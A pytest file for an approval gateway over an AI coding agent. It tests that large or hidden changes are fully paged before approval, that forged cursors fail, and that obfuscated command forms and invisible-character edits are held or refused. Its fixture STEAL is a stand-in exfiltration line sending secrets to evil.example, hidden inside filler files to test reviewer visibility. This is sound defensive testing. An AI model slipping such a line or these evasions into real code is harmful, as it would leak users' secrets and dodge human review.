"""What cannot be shown whole cannot be approved as a whole: every path is named, and a large change is read to its end first."""

import re
from collections.abc import Mapping
from typing import Any

import pytest

from spass.core.paging import decode_cursor, encode_cursor
from tests.functions.gateway import Gateway
from tests.functions.test_approvals_of_edits import Coder
from tests.functions.waiting_agents import APPROVALS
from tests.functions.workspace_client import WorkspaceClient

REMOVE = {"message": "/git rm -r src", "files": ["src/main.py"]}
FILLER = b"# a line of no interest at all, one of many\n"
STEAL = b"send(secrets, 'https://evil.example')\n"


@pytest.fixture
def coder(gateway: Gateway) -> Coder:
    return Coder(gateway, "aider_edit, deletes")


def fill(coder: Coder, files: Mapping[str, bytes]) -> None:
    WorkspaceClient(coder.gateway, "default").put_archive(files)


def wait_for_restore(coder: Coder, before: Mapping[str, bytes], after: Mapping[str, bytes]) -> dict[str, Any]:
    """Return the approval of a command that brings ``after`` back, in place of ``before``."""
    fill(coder, after)
    version = WorkspaceClient(coder.gateway, "default").json()["version"]
    fill(coder, before)
    return coder.wait_for({"message": f"/git restore --source={version} .", "files": ["src/main.py"]})


def approve(coder: Coder, approval: Mapping[str, Any], **more: object) -> Any:
    return coder.gateway.send("POST", f"{APPROVALS}/{approval['id']}", body={"decision": "approve", **more})


def test_a_small_change_is_never_displaced_by_a_large_one(coder: Coder) -> None:
    large = {f"src/a{number}.py": FILLER * 3_000 for number in range(4)}
    waiting = wait_for_restore(coder, {"src/z.py": b"x\n"}, {**large, "src/z.py": STEAL})
    for place in (waiting["rich"], waiting["preview"]["files"]):
        shown = {file["path"]: file for file in place}
        assert shown.keys() == {*large, "src/z.py"}
        assert "+send(secrets" in shown["src/z.py"]["unified"]
        assert (shown["src/z.py"]["truncated"], shown["src/a3.py"]["truncated"]) == (False, True)


def test_a_change_that_does_not_fit_is_approved_only_after_its_last_page(coder: Coder) -> None:
    after = {f"src/a{number}.py": FILLER * 3_000 + STEAL for number in range(4)}
    waiting = wait_for_restore(coder, {"src/main.py": b"x\n"}, after)
    preview = waiting["preview"]
    assert (preview["complete"], preview["file_count"]) == (False, 5)
    assert preview["omitted_bytes"] > 300_000
    assert preview["changes"] == f"{APPROVALS}/{waiting['id']}/changes"
    first = coder.gateway.send("GET", f"{preview['changes']}?limit=2").json
    for body in ({}, {"seen": ""}, {"seen": "x"}, {"seen": first["next_cursor"]}):
        refused = approve(coder, waiting, **body)
        assert (refused.status, refused.code) == (409, "preview_not_seen")
        assert preview["changes"] in refused.json["error"]["message"]
        assert refused.json["error"]["details"] == {"changes": preview["changes"]}
    changes, seen = coder.read_changes(waiting, limit=2)
    assert [change["path"] for change in changes] == sorted([*after, "src/main.py"])
    assert not any(change["truncated"] for change in changes)
    assert all(f"+{STEAL.decode()}" in change["unified"] for change in changes if change["status"] == "added")
    assert coder.read_changes(waiting, limit=1000) == (changes, seen)
    other = wait_for_restore(coder, {"src/main.py": b"x\n"}, {path: body + b"#\n" for path, body in after.items()})
    assert approve(coder, other, seen=seen).code == "preview_not_seen"
    fill(coder, {"src/main.py": b"x\n"})
    assert approve(coder, waiting, seen=seen).json["status"] == "executed"
    assert coder.file("src/a3.py") == after["src/a3.py"].decode()


def test_no_page_and_no_proof_is_had_without_the_pages_before(coder: Coder) -> None:
    """Scopes of cursors are public, so anybody can write a position."""
    after = {f"src/a{number}.py": FILLER * 3_000 + STEAL for number in range(4)}
    waiting = wait_for_restore(coder, {"src/main.py": b"x\n"}, after)
    path = f"{APPROVALS}/{waiting['id']}/changes"
    scope = f"changes|demo|ada|{waiting['id']}"
    cursor = coder.gateway.send("GET", f"{path}?limit=1").json["next_cursor"]
    position = decode_cursor(scope, cursor, re.compile(".*"))
    assert position.startswith("1")
    for start in ("4", "5", "99999"):
        for forged in (start, start + position[1:]):
            refused = coder.gateway.send("GET", f"{path}?cursor={encode_cursor(scope, forged)}")
            assert (refused.status, refused.code) == (400, "invalid_request"), forged


def test_a_change_that_does_not_fit_is_denied_without_reading_it(coder: Coder) -> None:
    waiting = wait_for_restore(coder, {"src/main.py": b"x\n"}, {"src/main.py": FILLER * 5_000})
    assert coder.gateway.send("POST", f"{APPROVALS}/{waiting['id']}", body={"decision": "deny"}).json["status"] == "denied"
    gone = coder.gateway.send("GET", f"{APPROVALS}/{waiting['id']}/changes")
    assert (gone.status, gone.code) == (409, "approval_decided")


def test_what_the_preview_shows_whole_is_approved_as_before(coder: Coder) -> None:
    waiting = wait_for_restore(coder, {"src/main.py": b"x\n"}, {"src/main.py": STEAL})
    assert waiting["preview"]["complete"] is True
    assert not {"changes", "omitted", "omitted_bytes"} & waiting["preview"].keys()
    assert [change["path"] for change in coder.read_changes(waiting)[0]] == ["src/main.py"]
    assert approve(coder, waiting).json["status"] == "executed"


def test_a_removal_names_all_of_its_2000_files(coder: Coder) -> None:
    paths = [f"src/{number:04}.py" for number in range(2_000)]
    fill(coder, dict.fromkeys(paths, b"x\n"))
    waiting = coder.wait_for(REMOVE)
    assert [file["path"] for file in waiting["preview"]["files"]] == paths
    assert waiting["preview"]["complete"] is False
    changes, _ = coder.read_changes(waiting, limit=1000)
    assert [(change["path"], change["status"], change["truncated"]) for change in changes] == [
        (path, "deleted", False) for path in paths
    ]


@pytest.mark.parametrize(
    ("files", "reason"),
    [
        ({f"src/{number:04}.py": b"x\n" for number in range(2_001)}, "2001 files"),
        ({f"src/{number}.py": FILLER * 30_000 for number in range(4)}, "4 MiB"),
    ],
)
def test_a_change_that_nobody_would_read_is_refused(coder: Coder, files: Mapping[str, bytes], reason: str) -> None:
    fill(coder, files)
    error = coder.result(REMOVE)["error"]
    assert error["code"] == "workspace_limit"
    assert reason in error["message"]
    assert "Split it" in error["message"]
    assert coder.gateway.send("GET", APPROVALS).json["approvals"] == []
    assert WorkspaceClient(coder.gateway, "default").json()["file_count"] == len(files)


def test_a_file_that_is_not_text_is_named_by_its_hash_and_new_content_must_be_text(coder: Coder) -> None:
    fill(coder, {"src/logo.png": b"\x89PNG\0\xff", "src/main.py": b"x\n"})
    waiting = coder.wait_for({"message": "/git rm src/logo.png", "files": ["src/logo.png"]})
    (change,) = waiting["rich"]
    assert change["unified"].startswith("index ")
    assert change["unified"].endswith("Binary files a/src/logo.png and /dev/null differ\n")
    assert (change["truncated"], waiting["preview"]["complete"]) == (False, True)
    coder.editor.suffix = "\0hidden"
    assert coder.result({"message": "Add it.", "files": ["src/main.py"]})["error"]["code"] == "not_text"


def test_the_changes_of_another_user_are_not_found(coder: Coder) -> None:
    waiting = coder.wait_for(REMOVE)
    path = f"{APPROVALS}/{waiting['id']}/changes"
    for user, token in (("bob", "demo-token"), ("ada", "other-token")):
        reply = coder.gateway.send("GET", path, user=user, token=token)
        assert (reply.status, reply.code) == (404, "approval_not_found")
    assert coder.gateway.send("GET", f"{APPROVALS}/apr_1/changes").code == "approval_not_found"
    for query in ("cursor=x", "limit=0", "limit=1&limit=2"):
        reply = coder.gateway.send("GET", f"{path}?{query}")
        assert (reply.status, reply.code) == (400, "invalid_request")


@pytest.mark.parametrize(
    "content",
    ["", " \n\t", "\ufeff", "\u200b\u2060\u00ad", "\u3164\u2800\u115f", "\u2028\u0085\x0c\r", "\U000e0041\ufe0f", "\ufff9\ufffc"],
)
def test_an_edit_that_leaves_no_visible_character_waits(gateway: Gateway, content: str) -> None:
    coder = Coder(gateway, "deletes")
    coder.editor.text = content
    waiting = coder.wait_for({"message": "Empty it.", "files": ["src/main.py"]})
    assert waiting["preview"]["why"] == "It leaves no visible character in 'src/main.py'."
    assert coder.file() == "print(1)\n"


@pytest.mark.parametrize("again", ["an edit", "an archive"])
def test_an_edit_that_brings_an_older_content_back_waits(gateway: Gateway, again: str) -> None:
    coder = Coder(gateway, "deletes")
    if again == "an archive":  # of so many files that the version does not say what it brought
        fill(coder, {f"src/{number}.py": b"old\n" for number in range(70)})
        coder.put("src/5.py", b"new\n")
        coder.editor.text = "old\n"
        assert coder.wait_for({"message": "Change it.", "files": ["src/5.py"]})["status"] == "pending"
        assert coder.file("src/5.py") == "new\n"
        return
    assert coder.result({"message": "Change it.", "files": ["src/main.py"]})["version"] == 3
    coder.editor.text = "print(1)\n"
    waiting = coder.wait_for({"message": "Change it.", "files": ["src/main.py"]})
    assert waiting["preview"]["why"] == "It brings an older content of 'src/main.py' back."
    assert coder.file() == "print(1)\n# edited\n"
    assert coder.decide(waiting)["status"] == "executed"
    coder.editor.text = "print(3)\n"
    assert coder.result({"message": "Change it.", "files": ["src/main.py"]})["version"] == 5


@pytest.mark.parametrize("text", ["print(1)", "print(1)\n\n", " print( 1 )", "print(1)\u200b\n", "\ufeffprint(1)\n"])
def test_an_older_content_with_other_blanks_or_invisible_characters_waits(gateway: Gateway, text: str) -> None:
    coder = Coder(gateway, "deletes")
    edit = {"message": "Change it.", "files": ["src/main.py"]}
    assert coder.result(edit)["version"] == 3
    coder.editor.text = text
    assert coder.wait_for(edit)["status"] == "pending"
    coder.editor.text = "print(1)\n# edited\n\n"
    assert coder.result(edit)["version"] == 4, "an edit of blanks brings nothing back"


@pytest.mark.parametrize(
    ("gate", "message", "why"),
    [
        ("deletes", "/git rm src/old.py", "It removes 'src/old.py'."),
        ("deletes", "/git rm -r src", "It removes 'src/main.py' and another file."),
        ("deletes", "/undo", "It brings back an older version."),
        ("aider_edit, deletes", "/git rm src/old.py", "Every call of aider_edit by this agent waits."),
    ],
)
def test_the_preview_says_to_the_person_and_to_the_model_why_the_change_waits(
    gateway: Gateway, gate: str, message: str, why: str
) -> None:
    coder = Coder(gateway, gate)
    coder.put("src/old.py", b"print(2)\n")
    files = ["src/main.py", "src/old.py"]
    assert coder.wait_for({"message": message, "files": files})["preview"]["why"] == why
    assert coder.result({"message": message, "files": files})["preview"]["why"] == why


@pytest.mark.parametrize(
    "message",
    [
        "/ undo",
        "/'undo'",
        '/"undo"',
        "/u'nd'o",
        "/git  rm src/old.py",
        "/'git' rm src/old.py",
        "/git 'rm' src/old.py",
        "\u2028/git rm src/old.py",
        "\x1c/git rm src/old.py",
    ],
)
def test_only_the_exact_form_is_a_command(coder: Coder, message: str) -> None:
    assert coder.result({"message": message, "files": ["src/old.py"]})["error"]["code"] == "command_not_allowed"
    assert coder.file("src/old.py") == "print(1)\n"
